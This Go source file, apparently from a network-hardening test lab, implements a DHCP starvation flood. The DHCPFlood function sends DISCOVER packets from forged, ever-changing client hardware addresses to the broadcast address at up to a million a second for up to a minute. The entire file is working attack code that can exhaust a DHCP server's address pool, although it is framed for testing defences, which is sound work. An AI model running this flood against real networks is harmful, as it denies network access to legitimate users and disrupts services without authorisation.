package lab

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"syscall"
	"time"

	"github.com/insomniacslk/dhcp/dhcpv4"
	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"
)

// DHCPFlood sends DHCP DISCOVERs from forged hardware addresses, each
// used once, out of iface to the broadcast address, at rate a second for
// duration (a DHCP starvation attack, for the hardening tests). It
// writes how many it sent and at what rate to w.
func DHCPFlood(ctx context.Context, iface string, rate int, duration time.Duration, w io.Writer) error {
	if rate <= 0 || rate > 1_000_000 || duration <= 0 || duration > time.Minute {
		return fmt.Errorf("dhcp-flood: a rate of 1 to 1,000,000 a second for at most a minute")
	}
	lc := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		var serr error
		err := c.Control(func(fd uintptr) {
			if serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_BROADCAST, 1); serr == nil {
				serr = unix.BindToDevice(int(fd), iface)
			}
		})
		if err != nil {
			return err
		}
		return serr
	}}
	pc, err := lc.ListenPacket(ctx, "udp4", "0.0.0.0:0")
	if err != nil {
		return fmt.Errorf("dhcp-flood on %s: %w", iface, err)
	}
	defer pc.Close()
	conn := ipv4.NewPacketConn(pc)
	m, err := dhcpv4.New(dhcpv4.WithMessageType(dhcpv4.MessageTypeDiscover), dhcpv4.WithHwAddr(net.HardwareAddr{2, 0, 0, 0, 0, 0}))
	if err != nil {
		return err
	}
	tmpl := m.ToBytes()
	to := &net.UDPAddr{IP: net.IPv4bcast, Port: dhcpv4.ServerPort}
	const batch = 64
	msgs := make([]ipv4.Message, batch)
	for i := range msgs {
		b := append([]byte(nil), tmpl...)
		msgs[i] = ipv4.Message{Buffers: [][]byte{b}, Addr: to}
	}
	seq := rand.Uint32()
	start := time.Now()
	end := start.Add(duration)
	sent := 0
	for now := start; now.Before(end) && ctx.Err() == nil; now = time.Now() {
		due := int(float64(rate) * now.Sub(start).Seconds())
		if due <= sent {
			time.Sleep(200 * time.Microsecond)
			continue
		}
		n := min(batch, due-sent)
		for i := range n {
			seq++
			b := msgs[i].Buffers[0]
			binary.BigEndian.PutUint32(b[4:8], seq)   // xid
			binary.BigEndian.PutUint32(b[30:34], seq) // chaddr: 02:xx + seq
			b[29] = byte(seq>>24 ^ 0x5a)
		}
		k, err := conn.WriteBatch(msgs[:n], 0)
		if err != nil && k == 0 {
			// The link's queue is full: count nothing, try again.
			time.Sleep(100 * time.Microsecond)
			continue
		}
		sent += k
	}
	took := time.Since(start)
	fmt.Fprintf(w, "sent=%d seconds=%.2f rate=%.0f\n", sent, took.Seconds(), float64(sent)/took.Seconds())
	return nil
}
